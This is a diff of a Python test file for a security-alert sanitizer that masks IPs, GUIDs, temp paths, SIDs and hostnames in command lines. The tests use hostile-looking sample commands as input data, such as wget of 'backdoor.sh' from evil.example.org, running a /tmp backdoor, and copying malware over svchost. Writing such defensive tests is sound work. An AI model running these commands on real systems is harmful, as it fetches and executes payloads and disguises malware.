@@ -11,32 +11,44 @@ These tests verify that:
 5. MITRE ATT&CK data is extracted from both array and flat formats
 """
 
+import hashlib
+import random
+import re
+
 import pytest
 from sanitizer import (
     Sanitizer,
     extract_qa_fields,
     debug_sanitization,
     _extract_mitre_attack,
-    _get_primary_mitre_field,
 )
 
+_HEX_DIGITS = frozenset('0123456789abcdef')
+
+
+def _sanitize_sequential(text):
+    """Reference sanitizer: every rule applied with re.sub, one after another."""
+    result = text
+    for sid, token in Sanitizer.WELL_KNOWN_SIDS.items():
+        result = re.sub(r'\b' + re.escape(sid) + r'\b', token, result, flags=re.IGNORECASE)
+    for pattern, replacement, _ in Sanitizer.SANITIZATION_RULES:
+        result = re.sub(pattern, replacement, result, flags=re.IGNORECASE)
+    return ' '.join(result.split())
+
 
 class TestSanitizerIPAddresses:
     """Tests for IP address sanitization."""
 
-    def test_sanitize_ipv4_basic(self):
-        """IPv4 addresses should be replaced with <IP>."""
-        cmdline = "ping 192.168.1.1"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<IP>" in result
-        assert "192.168.1.1" not in result
-
-    def test_sanitize_ipv4_in_url(self):
-        """IPv4 in URLs should be sanitized."""
-        cmdline = "curl http://10.0.0.1:8080/payload"
+    @pytest.mark.parametrize("cmdline,removed", [
+        pytest.param("ping 192.168.1.1", "192.168.1.1", id="ipv4_basic"),
+        pytest.param("curl http://10.0.0.1:8080/payload", "10.0.0.1", id="ipv4_in_url"),
+        pytest.param("ping 2001:0db8:85a3:0000:0000:8a2e:0370:7334", "2001:", id="ipv6"),
+    ])
+    def test_sanitize_ip(self, cmdline, removed):
+        """IPv4 and IPv6 addresses should be replaced with <IP>."""
         result = Sanitizer.sanitize(cmdline)
         assert "<IP>" in result
-        assert "10.0.0.1" not in result
+        assert removed not in result
 
     def test_sanitize_multiple_ipv4(self):
         """Multiple IPv4 addresses should all be sanitized."""
@@ -46,89 +58,64 @@ class TestSanitizerIPAddresses:
         assert "192.168.1.1" not in result
         assert "172.16.0.1" not in result
 
-    def test_sanitize_ipv6(self):
-        """IPv6 addresses should be replaced with <IP>."""
-        cmdline = "ping 2001:0db8:85a3:0000:0000:8a2e:0370:7334"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<IP>" in result
-        assert "2001:" not in result
-
 
 class TestSanitizerGUIDs:
     """Tests for GUID/UUID sanitization."""
 
-    def test_sanitize_guid_with_braces(self):
-        """GUIDs with braces should be sanitized."""
-        cmdline = r"schtasks /create /tn {A1B2C3D4-E5F6-7890-ABCD-EF1234567890}"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<GUID>" in result
-        assert "A1B2C3D4" not in result
-
-    def test_sanitize_guid_without_braces(self):
-        """GUIDs without braces should be sanitized."""
-        cmdline = "reg add HKLM\\SOFTWARE\\A1B2C3D4-E5F6-7890-ABCD-EF1234567890"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<GUID>" in result
-
-    def test_sanitize_clsid(self):
-        """CLSIDs in registry paths should be sanitized."""
-        cmdline = r"regsvr32 /s /u {12345678-1234-1234-1234-123456789ABC}"
+    @pytest.mark.parametrize("cmdline,removed", [
+        pytest.param(
+            r"schtasks /create /tn {A1B2C3D4-E5F6-7890-ABCD-EF1234567890}", "A1B2C3D4",
+            id="with_braces",
+        ),
+        pytest.param(
+            "reg add HKLM\\SOFTWARE\\A1B2C3D4-E5F6-7890-ABCD-EF1234567890", "A1B2C3D4",
+            id="without_braces",
+        ),
+        pytest.param(
+            r"regsvr32 /s /u {12345678-1234-1234-1234-123456789ABC}", "12345678",
+            id="clsid",
+        ),
+    ])
+    def test_sanitize_guid(self, cmdline, removed):
+        """GUIDs and CLSIDs, with or without braces, should become <GUID>."""
         result = Sanitizer.sanitize(cmdline)
         assert "<GUID>" in result
+        assert removed not in result
 
 
 class TestSanitizerTempPaths:
     """Tests for temporary path sanitization."""
 
-    def test_sanitize_windows_user_temp(self):
-        """Windows user temp paths should be sanitized."""
-        cmdline = r"copy malware.exe C:\Users\JohnDoe\AppData\Local\Temp\random123.exe"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<TEMP>" in result
-        assert "JohnDoe" not in result
-
-    def test_sanitize_windows_system_temp(self):
-        """Windows system temp paths should be sanitized."""
-        cmdline = r"move C:\Windows\Temp\payload.dll C:\System32"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<TEMP>" in result
-
-    def test_sanitize_linux_tmp(self):
-        """Linux /tmp paths should be sanitized."""
-        cmdline = "chmod +x /tmp/backdoor.sh && /tmp/backdoor.sh"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<TEMP>" in result
-        assert "backdoor.sh" not in result
-
-    def test_sanitize_linux_var_tmp(self):
-        """Linux /var/tmp paths should be sanitized."""
-        cmdline = "cp /var/tmp/malware /usr/bin/svchost"
+    @pytest.mark.parametrize("cmdline,removed", [
+        pytest.param(
+            r"copy malware.exe C:\Users\JohnDoe\AppData\Local\Temp\random123.exe", "JohnDoe",
+            id="windows_user_temp",
+        ),
+        pytest.param(r"move C:\Windows\Temp\payload.dll C:\System32", "payload.dll", id="windows_system_temp"),
+        pytest.param("chmod +x /tmp/backdoor.sh && /tmp/backdoor.sh", "backdoor.sh", id="linux_tmp"),
+        pytest.param("cp /var/tmp/malware /usr/bin/svchost", "malware", id="linux_var_tmp"),
+    ])
+    def test_sanitize_temp_path(self, cmdline, removed):
+        """Windows and Linux temp paths should become <TEMP>."""
         result = Sanitizer.sanitize(cmdline)
         assert "<TEMP>" in result
+        assert removed not in result
 
 
 class TestSanitizerTimestamps:
     """Tests for timestamp sanitization."""
 
-    def test_sanitize_iso_timestamp(self):
-        """ISO format timestamps should be sanitized."""
-        cmdline = "log entry 2024-01-15T14:30:00Z user login"
+    @pytest.mark.parametrize("cmdline,removed", [
+        pytest.param("log entry 2024-01-15T14:30:00Z user login", "2024-01-15", id="iso"),
+        pytest.param("created: 2024-06-20T10:15:30+05:00", "2024-06-20", id="iso_with_offset"),
+        # Unix timestamps are 10-13 digits starting with 1
+        pytest.param("modified: 1704067200 bytes", "1704067200", id="unix"),
+    ])
+    def test_sanitize_timestamp(self, cmdline, removed):
+        """ISO and Unix timestamps should become <TIME>."""
         result = Sanitizer.sanitize(cmdline)
         assert "<TIME>" in result
-        assert "2024-01-15" not in result
-
-    def test_sanitize_iso_timestamp_with_offset(self):
-        """ISO timestamps with timezone offset should be sanitized."""
-        cmdline = "created: 2024-06-20T10:15:30+05:00"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<TIME>" in result
-
-    def test_sanitize_unix_timestamp(self):
-        """Unix timestamps (10-13 digits starting with 1) should be sanitized."""
-        cmdline = "modified: 1704067200 bytes"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<TIME>" in result
-        assert "1704067200" not in result
+        assert removed not in result
 
 
 class TestSanitizerBase64:
@@ -152,46 +139,38 @@ class TestSanitizerBase64:
 class TestSanitizerHex:
     """Tests for hex string sanitization."""
 
-    def test_sanitize_md5_hash(self):
-        """MD5 hashes (32 hex chars) should be sanitized.
+    @pytest.mark.parametrize("hash_value", [
+        pytest.param("d41d8cd98f00b204e9800998ecf8427e", id="md5"),
+        pytest.param("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", id="sha256"),
+    ])
+    def test_sanitize_hash(self, hash_value):
+        """MD5 and SHA256 hashes should be sanitized.
         
         Note: Long hex strings may be caught by the Base64 rule first
         since hex chars are valid base64. Either placeholder is acceptable.
         """
-        cmdline = "hash: d41d8cd98f00b204e9800998ecf8427e"
-        result = Sanitizer.sanitize(cmdline)
+        result = Sanitizer.sanitize(f"verified hash: {hash_value}")
         # May be <HEX> or <DATA> depending on rule ordering
         assert "<HEX>" in result or "<DATA>" in result
-        assert "d41d8cd98f00b204" not in result
-
-    def test_sanitize_sha256_hash(self):
-        """SHA256 hashes (64 hex chars) should be sanitized.
-        
-        Note: Long hex strings may be caught by the Base64 rule first.
-        """
-        hash_value = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
-        cmdline = f"verified hash: {hash_value}"
-        result = Sanitizer.sanitize(cmdline)
-        # May be <HEX> or <DATA> depending on rule ordering
-        assert "<HEX>" in result or "<DATA>" in result
-        assert hash_value not in result
+        assert hash_value[:16] not in result
 
 
 class TestSanitizerSIDs:
     """Tests for SID sanitization."""
 
-    def test_sanitize_well_known_sid_local_system(self):
-        """Well-known SID S-1-5-18 should become <LocalSystem>."""
-        cmdline = "runas /user:S-1-5-18 cmd.exe"
+    @pytest.mark.parametrize("cmdline,placeholder,removed", [
+        pytest.param("runas /user:S-1-5-18 cmd.exe", "<LocalSystem>", "S-1-5-18", id="local_system"),
+        pytest.param(
+            "net localgroup S-1-5-32-544 /add user", "<Administrators>", "S-1-5-32-544",
+            id="administrators",
+        ),
+        pytest.param("icacls folder /grant S-1-1-0:F", "<Everyone>", "S-1-1-0", id="everyone"),
+    ])
+    def test_sanitize_well_known_sid(self, cmdline, placeholder, removed):
+        """Well-known SIDs should become their named placeholder."""
         result = Sanitizer.sanitize(cmdline)
-        assert "<LocalSystem>" in result
-        assert "S-1-5-18" not in result
-
-    def test_sanitize_well_known_sid_administrators(self):
-        """Well-known SID S-1-5-32-544 should become <Administrators>."""
-        cmdline = "net localgroup S-1-5-32-544 /add user"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<Administrators>" in result
+        assert placeholder in result
+        assert removed not in result
 
     def test_sanitize_domain_sid(self):
         """Domain SIDs should be sanitized.
@@ -206,12 +185,6 @@ class TestSanitizerSIDs:
         # Some sanitization should have occurred
         assert "<SID>" in result or "<TIME>" in result
 
-    def test_sanitize_everyone_sid(self):
-        """Everyone SID should become <Everyone>."""
-        cmdline = "icacls folder /grant S-1-1-0:F"
-        result = Sanitizer.sanitize(cmdline)
-        assert "<Everyone>" in result
-
 
 class TestSanitizerRandomStrings:
     """Tests for random alphanumeric string sanitization."""
@@ -227,18 +200,15 @@ class TestSanitizerRandomStrings:
 class TestSanitizerURLs:
     """Tests for URL hostname sanitization."""
 
-    def test_sanitize_url_preserves_protocol(self):
+    @pytest.mark.parametrize("cmdline,expected,removed", [
+        pytest.param("curl https://malicious-domain.com/payload", "https://<HOST>", "malicious-domain", id="https"),
+        pytest.param("wget http://evil.example.org/backdoor.sh", "http://<HOST>", "evil.example", id="http"),
+    ])
+    def test_sanitize_url_preserves_protocol(self, cmdline, expected, removed):
         """URL hostnames should be sanitized but protocol preserved."""
-        cmdline = "curl https://malicious-domain.com/payload"
-        result = Sanitizer.sanitize(cmdline)
-        assert "https://<HOST>" in result
-        assert "malicious-domain" not in result
-
-    def test_sanitize_http_url(self):
-        """HTTP URLs should be handled correctly."""
-        cmdline = "wget http://evil.example.org/backdoor.sh"
         result = Sanitizer.sanitize(cmdline)
-        assert "http://<HOST>" in result
+        assert expected in result
+        assert removed not in result
 
 
 class TestSanitizerEdgeCases:
@@ -267,6 +237,48 @@ class TestSanitizerEdgeCases:
         assert "-ExecutionPolicy" in result
         assert "Bypass" in result
 
+    def test_prefilter_leaves_text_no_rule_can_match(self):
+        """Text missing every rule's prerequisites should pass through unchanged."""
+        assert Sanitizer.sanitize("explorer.exe") == "explorer.exe"
+
+    def test_prefilter_keeps_applicable_rules(self):
+        """Prefiltered patterns should still apply rules the text can match."""
+        cmdline = "ping 10.0.0.1 && curl https://evil.example.com -o /tmp/x"
+        result = Sanitizer.sanitize(cmdline)
+        assert result == "ping <IP> && curl https://<HOST> -o <TEMP>"
+
+
+class TestSanitizerRuleOrder:
+    """Tests that rules apply in order, each over the previous rule's output."""
+
+    @pytest.mark.parametrize("cmdline,expected", [
+        pytest.param(
+            "schtasks /tn Updateabcdef12-1234-1234-1234-123456789012",
+            "schtasks /tn Update<GUID>",
+            id="guid_before_random_string",
+        ),
+        pytest.param("pid: 1.2.3.4", "pid: <IP>", id="ip_before_pid"),
+    ])
+    def test_overlapping_rules(self, cmdline, expected):
+        """An earlier rule's match should take precedence over a later rule's."""
+        assert Sanitizer.sanitize(cmdline) == expected
+
+    def test_matches_sequential_reference(self):
+        """sanitize() should match applying each rule with re.sub in turn."""
+        rng = random.Random(42)
+        fragments = [
+            "pid:", "pid: ", "1.2.3.4", "192.168.1.100", "10.0.0", ".", "-", ":", "/", "\\",
+            "abcdef12-1234-1234-1234-123456789012", "{12345678-abcd-ef01-2345-6789abcdef01}",
+            "fe80:0:0:0:0:0:0:1", "S-1-5-18", "S-1-5-32-544", "S-1-5-21-1-2-3-1001",
+            "C:\\Windows\\Temp\\x.ps1", "/tmp/a", "/var/tmp/b", "https://evil.example.com",
+            "2024-01-15T10:30:00Z", "1700000000", "1700000000123", "deadbeef" * 4,
+            "SGVsbG9Xb3JsZEhlbGxvV29ybGQ=", "abc123def456", "Update", "cmd.exe", " ", "  ",
+        ]
+
+        for _ in range(2000):
+            cmdline = ''.join(rng.choice(fragments) for _ in range(rng.randint(1, 6)))
+            assert Sanitizer.sanitize(cmdline) == _sanitize_sequential(cmdline), cmdline
+
 
 class TestGenerateTemplate:
     """Tests for template generation from alerts."""
@@ -312,6 +324,16 @@ class TestGenerateTemplate:
         assert "<IP>" in template
         assert "192.168.1.100" not in template
 
+    def test_generate_template_without_parent(self, mutable_copy, sample_alert):
+        """Missing parent details should leave the parent slot empty."""
+        alert = mutable_copy('sample_alert')
+        del alert['parent_details']
+        
+        template = Sanitizer.generate_template(alert)
+        
+        assert template.endswith("|parent:")
+        assert 'parent_details' in sample_alert
+
     def test_generate_template_deterministic(self, sample_alert):
         """Same alert should always produce same template."""
         template1 = Sanitizer.generate_template(sample_alert)
@@ -323,13 +345,20 @@ class TestGenerateTemplate:
 class TestHashTemplate:
     """Tests for template hashing."""
 
-    def test_hash_template_returns_sha256(self):
-        """Hash should be 64-character hex string (SHA-256)."""
+    def test_hash_template_returns_16_byte_digest(self):
+        """Hash should be 32-character hex string (16-byte digest)."""
         template = "pattern:50007|cmd:test|file:test.exe|parent:cmd.exe"
         hash_value = Sanitizer.hash_template(template)
         
-        assert len(hash_value) == 64
-        assert all(c in '0123456789abcdef' for c in hash_value)
+        assert len(hash_value) == 32
+        assert set(hash_value) <= _HEX_DIGITS
+
+    def test_hash_template_is_blake2b(self):
+        """Hash should be the 16-byte BLAKE2b digest, whatever is installed."""
+        template = "pattern:50007|cmd:test|file:test.exe|parent:cmd.exe"
+
+        assert Sanitizer.hash_template(template) == \
+            hashlib.blake2b(template.encode('utf-8'), digest_size=16).hexdigest()
 
     def test_hash_template_deterministic(self):
         """Same template should always produce same hash."""
@@ -354,7 +383,28 @@ class TestHashTemplate:
         """Empty template should still produce valid hash."""
         hash_value = Sanitizer.hash_template("")
         
-        assert len(hash_value) == 64
+        assert len(hash_value) == 32
+        assert set(hash_value) <= _HEX_DIGITS
+
+    def test_hash_template_accepts_bytes(self):
+        """Pre-encoded templates should hash the same as strings."""
+        template = "pattern:50007|cmd:test|file:test.exe|parent:cmd.exe"
+
+        assert Sanitizer.hash_template(template.encode('utf-8')) == Sanitizer.hash_template(template)
+
+    def test_hash_templates_matches_hash_template(self):
+        """Batch hashing should match hashing each template individually."""
+        templates = [
+            "pattern:50007|cmd:test|file:test.exe|parent:cmd.exe",
+            "pattern:50007|cmd:other|file:test.exe|parent:cmd.exe",
+            "pattern:50102|cmd:test|file:test.exe|parent:cmd.exe",
+            "pattern:50007",
+            "",
+        ]
+
+        assert Sanitizer.hash_templates(templates) == [
+            Sanitizer.hash_template(t) for t in templates
+        ]
 
 
 class TestExtractQAFields:
@@ -506,33 +556,6 @@ class TestExtractMitreAttack:
         assert result[0]['technique'] is None
 
 
-class TestGetPrimaryMitreField:
-    """Tests for the _get_primary_mitre_field helper function."""
-
-    def test_get_primary_from_array(self):
-        """Should return first entry's field value."""
-        mitre_attack = [
-            {'tactic': 'Persistence', 'technique': 'Registry Run Keys'},
-            {'tactic': 'Execution', 'technique': 'PowerShell'},
-        ]
-        
-        result = _get_primary_mitre_field(mitre_attack, 'tactic', None)
-        
-        assert result == 'Persistence'
-
-    def test_get_primary_fallback(self):
-        """Should return fallback when array is empty."""
-        result = _get_primary_mitre_field([], 'tactic', 'Fallback Tactic')
-        
-        assert result == 'Fallback Tactic'
-
-    def test_get_primary_none_array(self):
-        """Should return fallback when array is None."""
-        result = _get_primary_mitre_field(None, 'technique', 'Fallback Technique')
-        
-        assert result == 'Fallback Technique'
-
-
 class TestExtractQAFieldsMitreArray:
     """Tests for mitre_attack array extraction in extract_qa_fields."""
 